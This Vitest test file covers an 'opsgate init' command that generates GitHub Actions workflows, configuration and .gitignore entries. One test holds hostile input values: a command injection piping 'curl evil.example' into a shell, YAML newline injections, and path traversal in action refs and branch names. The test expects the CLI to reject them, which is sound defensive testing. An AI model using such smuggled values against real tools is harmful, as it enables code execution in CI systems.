import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import { detectDefaultBranch } from '../../src/cli/init/init-options.js';
import { DRILL_CHECKS } from '../../src/cli/init/workflow-templates.js';
import { main } from '../../src/cli/main.js';
import { variablesOfChecks } from '../../src/core/config/env-scope.js';

const run = promisify(execFile);
const workflowNames = ['monthly-drill.yml', 'pr-checks.yml', 'publish-fork.yml'];

async function git(cwd: string, ...args: string[]): Promise<string> {
  return (await run('git', args, { cwd, env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } })).stdout;
}

/** actionlint from PATH or GOPATH/bin (scripts/install-tools.sh puts it there). */
function actionlintPath(): string {
  const gopath = process.env.GOPATH ?? path.join(os.homedir(), 'go');
  for (const dir of [...(process.env.PATH ?? '').split(':'), path.join(gopath, 'bin')]) {
    const candidate = path.join(dir, 'actionlint');
    if (dir && existsSync(candidate)) return candidate;
  }
  throw new Error('actionlint not found: run scripts/install-tools.sh');
}

async function actionlint(dir: string): Promise<{ code: number; output: string }> {
  const files = ['monthly-drill.yml', 'pr-checks.yml', 'publish-fork.yml'].map((f) =>
    path.join('.github', 'workflows', f),
  );
  try {
    const { stdout, stderr } = await run(actionlintPath(), ['-no-color', ...files], { cwd: dir });
    return { code: 0, output: stdout + stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { code: Number(e.code ?? -1), output: `${e.stdout ?? ''}${e.stderr ?? ''}` };
  }
}

describe('opsgate init', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'opsgate-init-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('writes workflows that pass actionlint and a config that passes validate', async () => {
    expect(await main(['init', '--dir', dir])).toBe(0);
    for (const f of ['opsgate.yml', 'drills/monthly.yml', '.github/workflows/pr-checks.yml'])
      expect(existsSync(path.join(dir, f)), f).toBe(true);

    const lint = await actionlint(dir);
    expect(lint.output).toBe('');
    expect(lint.code).toBe(0);

    process.env.OPSGATE_TARGET_URL = 'http://127.0.0.1:9';
    try {
      expect(await main(['validate', '--config', path.join(dir, 'opsgate.yml')])).toBe(0);
    } finally {
      delete process.env.OPSGATE_TARGET_URL;
    }

    const pr = await readFile(path.join(dir, '.github/workflows/pr-checks.yml'), 'utf8');
    expect(pr).toMatch(/^permissions: \{\}$/m);
    expect(pr).toMatch(/^concurrency:$/m);
    // Every third-party action is pinned to a full commit SHA.
    for (const m of pr.matchAll(/uses: (actions\/[^@\s]+)@(\S+)/g)) expect(m[2]).toMatch(/^[0-9a-f]{40}$/);
  });

  it('actionlint catches a broken workflow (the lint is real)', async () => {
    expect(await main(['init', '--dir', dir])).toBe(0);
    const file = path.join(dir, '.github/workflows/pr-checks.yml');
    const text = await readFile(file, 'utf8');
    await writeFile(file, text.replace('contents: read', 'contents: sometimes'));
    const lint = await actionlint(dir);
    expect(lint.code).not.toBe(0);
    expect(lint.output).toContain('sometimes');
  });

  it("in an empty repository: the given action repo and ref, the repository's branch, .gitignore, env", async () => {
    await git(dir, 'init', '-q', '-b', 'trunk');
    expect(
      await main(['init', '--dir', dir, '--action-repo', 'acme/opsgate', '--action-ref', 'v1.2.3']),
    ).toBe(0);
    const lint = await actionlint(dir);
    expect(lint.output).toBe('');
    for (const f of workflowNames) {
      const text = await readFile(path.join(dir, '.github/workflows', f), 'utf8');
      const opsgateUses = [...text.matchAll(/uses: (\S+)/g)]
        .map((m) => m[1]!)
        .filter((u) => !u.startsWith('actions/'));
      expect(opsgateUses.length).toBeGreaterThan(0);
      for (const u of opsgateUses) expect(u).toMatch(/^acme\/opsgate\/actions\/[a-z-]+@v1\.2\.3$/);
      expect(text).not.toContain('opsgate/opsgate');
    }
    const pr = await readFile(path.join(dir, '.github/workflows/pr-checks.yml'), 'utf8');
    expect(pr).toMatch(/^ {4}branches: \[trunk\]$/m);

    // Every variable the starter config needs is in the env of the workflows that run its checks.
    const config = await readFile(path.join(dir, 'opsgate.yml'), 'utf8');
    const needed = variablesOfChecks(parse(config), DRILL_CHECKS).map((v) => v.name);
    expect(needed).toEqual(['OPSGATE_TARGET_URL']);
    for (const f of ['pr-checks.yml', 'monthly-drill.yml'])
      expect(await readFile(path.join(dir, '.github/workflows', f), 'utf8')).toContain(
        'OPSGATE_TARGET_URL: ${{ vars.OPSGATE_TARGET_URL }}',
      );
    // The schema reference is the schema of the same version, a file this repository ships.
    expect(config.split('\n')[0]).toBe(
      '# yaml-language-server: $schema=https://raw.githubusercontent.com/acme/opsgate/v1.2.3/schema/opsgate.schema.json',
    );
    // (committed here, so the raw URL of a tag or SHA of this repository serves it)
    const root = path.resolve(import.meta.dirname, '../..');
    expect(await git(root, 'ls-files', 'schema/opsgate.schema.json')).toBe('schema/opsgate.schema.json\n');

    // What opsgate writes stays out of `git status`.
    for (const f of ['opsgate-out/report.md', '.opsgate/store/x.json']) {
      await mkdir(path.dirname(path.join(dir, f)), { recursive: true });
      await writeFile(path.join(dir, f), '{}');
    }
    const status = await git(dir, 'status', '--porcelain', '--untracked-files=all');
    expect(status).toContain('.gitignore');
    expect(status).not.toMatch(/opsgate-out|\.opsgate\//);
  });

  it("--workflows-only: env from the repository's opsgate.yml, secrets and variables by what they hold", async () => {
    await writeFile(path.join(dir, '.gitignore'), 'node_modules/\n/opsgate-out/\n');
    await writeFile(
      path.join(dir, 'opsgate.yml'),
      [
        'target: { base-url: "${OPSGATE_TARGET_URL}", headers: { X-Bypass: "${BYPASS_TOKEN}" } }',
        'identities:',
        '  viewer: { kind: bearer, token: "${VIEWER_TOKEN}" }',
        '  lockout: { kind: bearer, token: "${LOCKOUT_TOKEN}" }',
        'headers: { paths: [{ path: /, identity: viewer }] }',
        'abuse: { login-limiter: { identity: lockout } }',
        'restore:',
        '  backup: { kind: path, path: backups/*.dump }',
        '  scratch: { url: "${SCRATCH_DATABASE_URL}" }',
        '  rto: 15m',
        'store: { dir: "${OPSGATE_STORE_DIR:-.opsgate/store}" }',
      ].join('\n'),
    );
    expect(await main(['init', '--dir', dir, '--workflows-only', '--default-branch', 'release/2026'])).toBe(
      0,
    );
    expect((await actionlint(dir)).output).toBe('');
    const envOf = async (f: string) =>
      /^env:\n((?: {2}.*\n)*)/m.exec(await readFile(path.join(dir, '.github/workflows', f), 'utf8'))?.[1] ??
      '';
    expect(await envOf('pr-checks.yml')).toBe(
      [
        '  OPSGATE_TARGET_URL: ${{ vars.OPSGATE_TARGET_URL }}',
        '  BYPASS_TOKEN: ${{ secrets.BYPASS_TOKEN }}',
        '  VIEWER_TOKEN: ${{ secrets.VIEWER_TOKEN }}',
        '',
      ].join('\n'),
    );
    const drill = await envOf('monthly-drill.yml');
    expect(drill).toContain('  SCRATCH_DATABASE_URL: ${{ secrets.SCRATCH_DATABASE_URL }}');
    expect(drill).toContain('  LOCKOUT_TOKEN: ${{ secrets.LOCKOUT_TOKEN }}');
    // A variable with a default is left to its default (an unset one would arrive empty).
    expect(drill).not.toContain('OPSGATE_STORE_DIR');
    expect(await readFile(path.join(dir, '.github/workflows/pr-checks.yml'), 'utf8')).toMatch(
      /branches: \[release\/2026\]/,
    );
    // .gitignore is extended, not replaced, and the configured backups join it; a re-run adds nothing.
    const ignore = await readFile(path.join(dir, '.gitignore'), 'utf8');
    expect(ignore).toBe(
      'node_modules/\n/opsgate-out/\n\n# opsgate: evidence, local store, backups\n.opsgate/\nbackups/*.dump\n',
    );
    expect(await readFile(path.join(dir, 'opsgate.yml'), 'utf8')).toContain('BYPASS_TOKEN');
    expect(await main(['init', '--dir', dir, '--workflows-only', '--force'])).toBe(0);
    expect(await readFile(path.join(dir, '.gitignore'), 'utf8')).toBe(ignore);
  });

  it('detects the default branch from origin/HEAD, else from the branches the repository has', async () => {
    await git(dir, 'init', '-q', '-b', 'master');
    await git(dir, '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '--allow-empty', '-m', 'x');
    await git(dir, 'checkout', '-q', '-b', 'feature');
    // A later init.defaultBranch does not rename the branch this repository already has.
    await git(dir, 'config', 'init.defaultBranch', 'main');
    expect(await detectDefaultBranch(dir)).toBe('master');
    await git(dir, 'update-ref', 'refs/remotes/origin/develop', 'HEAD');
    await git(dir, 'symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/develop');
    expect(await detectDefaultBranch(dir)).toBe('develop');
    expect(await detectDefaultBranch(path.join(dir, '..', 'no-such-repo-here'))).toBe('main');
  });

  it('hostile or mistaken --action-repo/--action-ref/--default-branch are usage errors (exit 2) with a hint', async () => {
    const errors: string[] = [];
    const spy = vi.spyOn(console, 'error').mockImplementation((m: string) => void errors.push(String(m)));
    try {
      expect(await main(['init', '--dir', dir, '--action-ref', `myorg/x@${'a'.repeat(40)}`])).toBe(2);
      expect(errors.join('\n')).toContain(`use --action-repo myorg/x --action-ref ${'a'.repeat(40)}`);
      for (const bad of [
        ['--action-ref', 'v1; curl evil.example | sh'],
        ['--action-ref', '../../main'],
        ['--action-ref', 'v1\n  run: x'],
        ['--action-ref', ''],
        ['--action-repo', 'acme/opsgate/actions'],
        ['--action-repo', 'acme/opsgate@v1'],
        ['--action-repo', '-acme/opsgate'],
        ['--action-repo', 'acme/..'],
        ['--default-branch', 'main branch'],
        ['--default-branch', 'main]\non: push'],
      ])
        expect(await main(['init', '--dir', dir, ...bad]), bad.join(' ')).toBe(2);
    } finally {
      spy.mockRestore();
    }
    expect(existsSync(path.join(dir, '.github'))).toBe(false);
  });

  it('refuses to overwrite without --force, naming every existing file', async () => {
    expect(await main(['init', '--dir', dir])).toBe(0);
    await writeFile(path.join(dir, 'opsgate.yml'), 'mine\n');
    expect(await main(['init', '--dir', dir])).toBe(2);
    expect(await readFile(path.join(dir, 'opsgate.yml'), 'utf8')).toBe('mine\n');
    expect(await main(['init', '--dir', dir, '--force', '--action-ref', 'a'.repeat(40)])).toBe(0);
    expect(await readFile(path.join(dir, 'opsgate.yml'), 'utf8')).toContain(
      'base-url: ${OPSGATE_TARGET_URL}',
    );
    expect(await readFile(path.join(dir, '.github/workflows/pr-checks.yml'), 'utf8')).toContain(
      `actions/gate@${'a'.repeat(40)}`,
    );
  });
});
